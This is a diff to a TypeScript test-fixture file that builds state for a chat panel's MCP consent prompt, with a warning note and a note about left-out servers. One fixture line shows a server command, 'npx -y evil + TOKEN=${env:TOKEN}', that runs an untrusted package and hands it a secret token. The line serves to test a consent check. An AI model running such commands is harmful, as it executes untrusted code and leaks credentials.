@@ -1,4 +1,4 @@
-import type { AgentSummary, PanelState, SessionSummary } from '../../../src/chat/protocol';
+import type { AgentSummary, PanelState, SessionNote, SessionSummary } from '../../../src/chat/protocol';
 
 /** Builders for the panel's state; every field has a plain default. */
 
@@ -62,3 +62,26 @@ export function panel(change: Partial<PanelState> = {}): PanelState {
 export function emptyPanel(change: Partial<PanelState> = {}): PanelState {
   return panel({ sessions: [], shown: undefined, ...change });
 }
+
+/** A question about an MCP server of the workspace, and what was left out. */
+export const mcpNotes: readonly SessionNote[] = [
+  {
+    noteId: 'consent',
+    severity: 'warning',
+    text: 'The workspace defines an MCP server “tracker”. The agent would run:',
+    code: 'npx -y evil + TOKEN=${env:TOKEN}',
+    details: ['.vscode/mcp.json'],
+    actions: [
+      { actionId: 'allow', label: 'Allow' },
+      { actionId: 'deny', label: 'Don’t Allow' },
+      { actionId: 'open', label: 'Open' },
+    ],
+  },
+  {
+    noteId: 'leftOut',
+    severity: 'info',
+    text: '2 MCP servers were left out',
+    details: ['web: the agent does not take MCP servers over HTTP', 'db: the value of “password” was not given'],
+    actions: [{ actionId: 'show', label: 'Show MCP Servers' }],
+  },
+];
